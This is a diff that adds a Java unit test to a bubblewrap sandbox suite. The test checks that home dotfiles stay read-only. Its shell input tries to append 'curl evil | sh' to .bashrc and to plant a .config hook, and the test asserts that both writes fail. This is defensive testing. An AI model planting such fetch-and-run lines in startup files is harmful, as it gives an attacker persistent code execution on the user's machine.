@@ -147,6 +147,25 @@ class BwrapSandboxTest {
     }
 
     @Test
+    void withTheHomeAsTheRootItsDotfilesStayReadOnly() throws Exception {
+        Path home = root.toRealPath();
+        Files.writeString(home.resolve(".bashrc"), "safe\n");
+        Files.createDirectories(home.resolve(".config"));
+        String saved = System.getProperty("user.home");
+        System.setProperty("user.home", home.toString());
+        try {
+            ToolResult result = run(executor(false), "echo x > work.txt; echo 'curl evil | sh' >> .bashrc; "
+                    + "echo hook > .config/hook; cat work.txt");
+            assertEquals("x\n", out(result), result.text());
+            assertTrue(result.text().contains("Read-only file system"), result.text());
+            assertEquals("safe\n", Files.readString(home.resolve(".bashrc")));
+            assertFalse(Files.exists(home.resolve(".config/hook")));
+        } finally {
+            System.setProperty("user.home", saved);
+        }
+    }
+
+    @Test
     void rmOfADirectoryOutsideTheRootsFailsAndLeavesItIntact() throws Exception {
         scratch = outsideTmp("sandbox-scratch-");
         Files.writeString(scratch.resolve("precious.txt"), "keep me");
